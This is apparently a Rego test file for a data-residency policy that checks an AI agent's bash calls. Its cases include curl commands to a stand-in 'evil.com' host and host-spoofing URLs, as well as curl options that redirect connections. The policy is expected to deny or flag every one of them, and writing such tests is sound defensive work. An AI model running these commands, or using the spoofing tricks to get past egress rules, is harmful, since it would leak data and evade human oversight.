package cookbook.data_residency_test

import data.cookbook.data_residency as tested
import data.cookbook.lines_test as lines

# Calls with the facts that sandgate derives from them, and the rules that they break.
_cases := {
	"ls": {"input": {"call": {"tool": "bash", "args": {"command": "ls"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "ls", "args": [], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": [], "ask": []},
	"curl https://api.eu.example.com/x": {"input": {"call": {"tool": "bash", "args": {"command": "curl https://api.eu.example.com/x"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": true, "value": "https://api.eu.example.com/x", "path": "/workspace/https:/api.eu.example.com/x"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": [], "ask": []},
	"curl http://localhost:8080": {"input": {"call": {"tool": "bash", "args": {"command": "curl http://localhost:8080"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": true, "value": "http://localhost:8080", "path": "/workspace/http:/localhost:8080"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": [], "ask": []},
	"git clone https://git.internal/x": {"input": {"call": {"tool": "bash", "args": {"command": "git clone https://git.internal/x"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "git", "git": {"sub": "clone", "at": 0, "options": [], "own": true, "remotes": ["https://git.internal/x"]}, "args": [{"literal": true, "value": "clone", "path": "/workspace/clone"}, {"literal": true, "value": "https://git.internal/x", "path": "/workspace/https:/git.internal/x"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": [], "ask": []},
	"curl https://api.us.example.com/x": {"input": {"call": {"tool": "bash", "args": {"command": "curl https://api.us.example.com/x"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": true, "value": "https://api.us.example.com/x", "path": "/workspace/https:/api.us.example.com/x"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"curl https://u:p@evil.com:443/x": {"input": {"call": {"tool": "bash", "args": {"command": "curl https://u:p@evil.com:443/x"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": true, "value": "https://u:p@evil.com:443/x", "path": "/workspace/https:/u:p@evil.com:443/x"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"git clone https://github.com/a/b": {"input": {"call": {"tool": "bash", "args": {"command": "git clone https://github.com/a/b"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "git", "git": {"sub": "clone", "at": 0, "options": [], "own": true, "remotes": ["https://github.com/a/b"]}, "args": [{"literal": true, "value": "clone", "path": "/workspace/clone"}, {"literal": true, "value": "https://github.com/a/b", "path": "/workspace/https:/github.com/a/b"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"scp a me@host.example.org:x": {"input": {"call": {"tool": "bash", "args": {"command": "scp a me@host.example.org:x"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "scp", "args": [{"literal": true, "value": "a", "path": "/workspace/a"}, {"literal": true, "value": "me@host.example.org:x", "path": "/workspace/me@host.example.org:x"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"curl https://EU.example.com.evil.com": {"input": {"call": {"tool": "bash", "args": {"command": "curl https://EU.example.com.evil.com"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": true, "value": "https://EU.example.com.evil.com", "path": "/workspace/https:/EU.example.com.evil.com"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"curl https://eu.example.com@evil.com/": {"input": {"call": {"tool": "bash", "args": {"command": "curl https://eu.example.com@evil.com/"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": true, "value": "https://eu.example.com@evil.com/", "path": "/workspace/https:/eu.example.com@evil.com"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"git push git@github.com:a/b": {"input": {"call": {"tool": "bash", "args": {"command": "git push git@github.com:a/b"}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "git", "git": {"sub": "push", "at": 0, "options": [], "own": true, "remotes": ["git@github.com:a/b"], "push": {"complete": true, "remote": "git@github.com:a/b", "force": false, "lease": false, "delete": false, "mirror": false, "all": false, "tags": false, "dry_run": false, "refs": []}}, "args": [{"literal": true, "value": "push", "path": "/workspace/push"}, {"literal": true, "value": "git@github.com:a/b", "path": "/workspace/git@github.com:a/b"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": ["data-residency"], "ask": []},
	"curl \"$URL\"": {"input": {"call": {"tool": "bash", "args": {"command": "curl \"$URL\""}, "shell": {"parsed": true, "overflow": false, "opaque": false, "commands": [{"index": 0, "base": "curl", "args": [{"literal": false}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": [], "ask": ["unknown-host"]},
	"ssh somewhere": {"input": {"call": {"tool": "bash", "args": {"command": "ssh somewhere"}, "shell": {"parsed": true, "overflow": false, "opaque": true, "commands": [{"index": 0, "base": "ssh", "args": [{"literal": true, "value": "somewhere", "path": "/workspace/somewhere"}], "redirects": []}]}}, "tool": {"name": "bash", "source": "builtin", "effects": ["execute", "read", "write", "delete"], "risk": "high", "annotations": {"destructiveHint": true, "idempotentHint": false, "openWorldHint": false, "readOnlyHint": false}}, "session": {"labels": [], "counts": {}, "recent": [], "id": "s"}}, "deny": [], "ask": ["unknown-host"]},
}

test_deny[note] if {
	some note, case in _cases
	{finding.rule | some finding in tested.deny with input as case.input} == {rule | some rule in case.deny}
}

_not_denied := {note: case |
	some note, case in _cases
	case.deny == []
}

test_ask[note] if {
	some note, case in _not_denied
	{finding.rule | some finding in tested.ask with input as case.input} == {rule | some rule in case.ask}
}

test_policy if tested.policy == "data_residency"

_rules(line, facts) := {"deny": lines.rules(denied), "ask": lines.rules(asked)} if {
	denied := tested.deny with input as lines.about(line, facts)
	asked := tested.ask with input as lines.about(line, facts)
}

_fine := {"deny": set(), "ask": set()}

_unknown := {"deny": set(), "ask": {"unknown-host"}}

test_resident[line] if {
	some line in [
		"curl https://a.eu.example.com/x", "curl https://a.internal/x", "curl http://localhost:80/", "curl http://127.0.0.1/",
		"curl -H $X https://a.internal/x", "curl -s https://a.internal/x", "ls", "ls $X", "ssh -K a@b.internal", "ls --config x",
	]
	_rules(line, {}) == _fine
}

test_outside if _rules("curl https://example.com/x", {}) == {"deny": {"data-residency"}, "ask": set()}

test_hosts_of_settings if {
	count(tested.deny) == 0 with input as lines.call("curl https://example.com/x")
		with data.sandgate.config.settings as {"data_residency": {"hosts": ["example.com"]}}
}

test_unknown[line] if {
	some line in [
		"curl", "curl $X", "curl https://a.internal/x $X", "CURL --resolve x https://a.internal/x", "curl --connect-to x https://a.internal/x",
		"wget --input-file=x https://a.internal/x", "curl -K x https://a.internal/x",
	]
	_rules(line, {}) == _unknown
}

test_prefixes if {
	_rules("curl", {"args": [{"dynamic": true, "literal": false, "prefix": "https://a.internal/"}]}) == _fine
	_rules("curl", {"args": [
		{"literal": true, "value": "https://a.internal/x"},
		{"dynamic": true, "literal": false, "prefix": "https://a.internal"},
	]}) == _unknown
}
